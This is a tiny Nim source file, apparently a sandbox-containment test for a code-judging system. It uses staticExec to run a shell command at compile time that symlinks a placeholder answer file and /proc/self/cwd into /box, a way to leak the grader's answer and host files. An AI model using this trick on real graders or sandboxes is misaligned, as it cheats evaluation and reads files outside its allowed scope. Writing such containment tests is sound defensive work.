# Compile-time attack: staticExec runs a shell command while compiling, leaving links to the
# answer file and to /proc/self/cwd in /box.
const made = staticExec("ln -s '@ANSWER@' /box/answer.txt; ln -s /proc/self/cwd /box/cwd; echo done")
echo "contained"
